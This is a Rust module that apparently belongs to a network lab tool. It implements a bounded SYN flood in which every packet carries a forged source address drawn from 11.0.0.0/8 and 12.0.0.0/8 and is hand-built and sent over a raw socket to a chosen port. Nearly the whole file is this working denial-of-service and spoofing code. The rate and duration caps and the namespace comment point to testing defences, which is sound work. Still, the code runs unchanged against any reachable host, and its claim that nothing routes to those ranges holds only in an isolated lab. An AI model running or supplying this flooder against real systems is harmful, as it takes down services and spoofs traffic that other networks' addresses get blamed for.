//! A bounded flood of first knocks from forged sources, IPv4.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use socket2::{Domain, Protocol, Socket, Type};

/// The most packets per second that may be asked for.
pub const RATE_MAX: u32 = 200_000;
/// The longest flood.
pub const SECONDS_MAX: u32 = 60;
/// IPv4 and TCP header without options.
const PACKET: usize = 40;
/// How often the sender compares what it sent with what it should have sent.
const TICK: Duration = Duration::from_millis(2);

/// What a flood did.
#[derive(Clone, Copy, Debug)]
pub struct Flooded {
    /// Packets that left.
    pub sent: u64,
    /// Packets that the kernel refused, for want of buffer space.
    pub refused: u64,
    /// How long it took.
    pub took: Duration,
}

/// Sends SYNs to one port, each from another source out of 11.0.0.0/8 and 12.0.0.0/8 in a stirred order, from the calling
/// thread's namespace. Nothing routes there, so that no answer leaves the lab.
///
/// # Errors
/// When the bounds are broken, or raw sockets are not allowed.
pub fn flood(to: SocketAddrV4, rate: u32, seconds: u32) -> Result<Flooded> {
    ensure!((1..=RATE_MAX).contains(&rate), "--rate must be from 1 to {RATE_MAX}");
    ensure!((1..=SECONDS_MAX).contains(&seconds), "--seconds must be from 1 to {SECONDS_MAX}");
    // IPPROTO_RAW: the packets carry their own IP header (raw(7)).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))
        .context("cannot make a raw socket; CAP_NET_RAW is needed")?;
    let target = SocketAddr::V4(to).into();
    let total = u64::from(rate) * u64::from(seconds);
    let start = Instant::now();
    let end = Duration::from_secs(seconds.into());
    let (mut sent, mut refused) = (0_u64, 0_u64);
    while sent + refused < total && start.elapsed() < end + Duration::from_secs(2) {
        let due = (start.elapsed().as_micros() * u128::from(rate) / 1_000_000).min(total.into());
        while u128::from(sent + refused) < due {
            let packet = syn(source(sent + refused), to, sent + refused);
            match socket.send_to(&packet, &target) {
                Ok(_) => sent += 1,
                Err(_) => refused += 1,
            }
        }
        thread::sleep(TICK);
    }
    Ok(Flooded { sent, refused, took: start.elapsed() })
}

/// The source of packet `number`: all different for 2^25 packets, far apart for neighbours.
fn source(number: u64) -> Ipv4Addr {
    // An odd multiplier makes a bijection of the 25-bit numbers (Knuth's multiplicative hashing).
    let stirred = (number.wrapping_mul(2_654_435_761) & 0x01ff_ffff) as u32;
    Ipv4Addr::from((11_u32 << 24) + stirred)
}

/// A SYN as of RFC 791 and RFC 9293.
fn syn(source: Ipv4Addr, to: SocketAddrV4, number: u64) -> [u8; PACKET] {
    let mut packet = [0; PACKET];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(PACKET as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let port = 1024 + (number % 60_000) as u16;
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&(number as u32).to_be_bytes());
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
    // The kernel fills in the IP header's checksum; the TCP one is ours, over the pseudo header.
    let mut sum: u32 = 6 + 20;
    for pair in packet[12..].chunks_exact(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    packet[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}

#[cfg(test)]
mod tests;
